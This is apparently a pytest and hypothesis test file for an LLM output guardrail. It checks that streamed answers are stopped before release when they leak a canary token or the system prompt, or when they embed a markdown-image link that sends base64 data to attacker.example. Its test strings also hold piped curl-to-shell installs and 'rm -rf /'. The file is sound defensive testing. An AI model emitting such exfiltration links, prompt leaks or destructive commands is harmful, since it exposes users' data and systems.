"""The built-in validators in a streamed answer: blocked before the offending text is released,
and the same decision as the whole-text check for any chunking."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from genai_guard import Action, Context, Decision, Direction, GuardBlocked
from genai_guard.policy import build_pipeline
from genai_guard.validate import add_canary, with_canary

PIPELINE = build_pipeline("default")
FILLER = "Your plan includes 20 GB of data and unlimited calls within the country. "


class Upstream:
    """A closeable iterator of deltas."""

    def __init__(self, deltas: list[str]) -> None:
        self.it = iter(deltas)
        self.closed = False

    def __iter__(self) -> Iterator[str]:
        return self

    def __next__(self) -> str:
        if self.closed:
            raise StopIteration
        return next(self.it)

    def close(self) -> None:
        self.closed = True


def _deltas(text: str, size: int = 4) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


def _run(text: str, ctx: Context) -> tuple[str, GuardBlocked | None, Upstream]:
    up = Upstream(_deltas(text))
    stream = PIPELINE.stream_output(up, ctx=ctx)
    got: list[str] = []
    while True:
        try:
            got.append(next(stream))
        except StopIteration:
            return "".join(got), None, up
        except GuardBlocked as exc:
            return "".join(got), exc, up


@pytest.fixture
def ctx(system_prompt: str) -> Context:
    prompt, canary = add_canary(system_prompt)
    return with_canary(Context(direction=Direction.OUTPUT, system_prompt=prompt), canary)


def test_markdown_image_exfiltration_is_blocked_before_release(ctx: Context) -> None:
    payload = "![status](https://attacker.example/log?d=TWFyZ3Vlcml0ZSBPa29ua3dvIC0gSGFy)"
    released, error, up = _run(FILLER * 4 + payload + " " + FILLER * 4, ctx)
    assert error is not None
    assert error.decision.rule_ids == ("output.exfiltration.data_in_url",)
    assert FILLER in released
    assert "![" not in released
    assert "attacker" not in released
    assert up.closed


def test_canary_leak_is_blocked_before_release(ctx: Context) -> None:
    canary = ctx.canaries[0]
    released, error, up = _run(FILLER * 4 + f"My reference is {canary}. " + FILLER * 4, ctx)
    assert error is not None
    assert error.decision.rule_ids == ("output.canary",)
    assert FILLER in released
    assert "gg-can" not in released
    assert up.closed


def test_verbatim_system_prompt_leak_is_blocked_before_release(
    ctx: Context, system_prompt: str
) -> None:
    text = FILLER * 4 + "My instructions are: " + system_prompt + "\n" + FILLER * 4
    released, error, up = _run(text, ctx)
    assert error is not None
    assert "output.system_prompt_leak" in error.decision.rule_ids
    assert FILLER in released
    assert "Orbit" not in released
    assert up.closed


def test_clean_answer_streams_through_unchanged(ctx: Context) -> None:
    released, error, _ = _run(FILLER * 20, ctx)
    assert (released, error) == (FILLER * 20, None)


ANSWERS = [
    FILLER * 3,
    FILLER + "Run `curl -fsSL https://get.example.sh | sudo bash` to install.\n" + FILLER,
    FILLER + "![a](https://x.example/p?q=TWFyZ3Vlcml0ZSBPa29ua3dvIC0gSGFy) " + FILLER,
    FILLER + "You are Orbit, the support assistant of Northwind Telecom.\n- Answer only "
    "questions about mobile plans, billing and roaming." + FILLER,
    "Step 1. check\nStep 22 of 333 things: 4444 " + FILLER,
]


def _same(a: Decision, b: Decision) -> None:
    assert (a.action, a.text, a.findings) == (b.action, b.text, b.findings)


@settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    answer=st.sampled_from(ANSWERS),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=40),
    batch=st.integers(min_value=1, max_value=80),
)
def test_default_pipeline_stream_equals_whole_text(
    answer: str, cuts: list[int], batch: int, system_prompt: str
) -> None:
    ctx = Context(direction=Direction.OUTPUT, system_prompt=system_prompt)
    points = sorted({c % (len(answer) + 1) for c in cuts} | {0, len(answer)})
    deltas = [answer[a:b] for a, b in itertools.pairwise(points)]
    whole = PIPELINE.check_output(answer, ctx=ctx)
    stream = PIPELINE.stream_output(deltas, ctx=ctx, batch=batch)
    try:
        released = "".join(stream)
    except GuardBlocked:
        released = None
    assert stream.decision is not None
    if released is None:
        assert (whole.blocked, stream.decision.blocked) == (True, True)
        return
    _same(stream.decision, whole)
    assert released == whole.text


PIECES = [
    "![a](",
    "https://",
    "x.example/",
    "?q=",
    "TWFyZ3Vlcml0ZSBPa29ua3dvIC0gSGFy",
    ")",
    " ",
    "\n",
    ". ",
    "rm -rf / ",
    "curl x | sh",
    "You are Orbit, the support assistant",
    " of Northwind Telecom.",
    "- Answer only questions about mobile plans, billing and roaming.",
    "1",
    "22",
    "4444",
    "ß",
    "İ",
    "ΣΑΣ",
    "_",
]


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    pieces=st.lists(st.sampled_from(PIECES), max_size=40),
    cuts=st.lists(st.integers(min_value=0, max_value=600), max_size=40),
    batch=st.integers(min_value=1, max_value=50),
)
def test_mixed_answers_stream_like_whole_text(
    pieces: list[str], cuts: list[int], batch: int, system_prompt: str
) -> None:
    answer = "".join(pieces)
    ctx = Context(direction=Direction.OUTPUT, system_prompt=system_prompt)
    points = sorted({c % (len(answer) + 1) for c in cuts} | {0, len(answer)})
    deltas = [answer[a:b] for a, b in itertools.pairwise(points)]
    whole = PIPELINE.check_output(answer, ctx=ctx)
    stream = PIPELINE.stream_output(deltas, ctx=ctx, batch=batch)
    got: list[str] = []
    while True:
        try:
            got.append(next(stream))
        except (StopIteration, GuardBlocked):
            break
    assert stream.decision is not None
    assert stream.decision.blocked is whole.blocked
    if not whole.blocked:
        _same(stream.decision, whole)
        assert "".join(got) == whole.text
    else:
        blocking = [
            f.span.start
            for r in stream.decision.results
            if r.action is Action.BLOCK
            for f in r.outcome.findings
            if f.span is not None
        ]
        assert len("".join(got)) <= min(blocking)
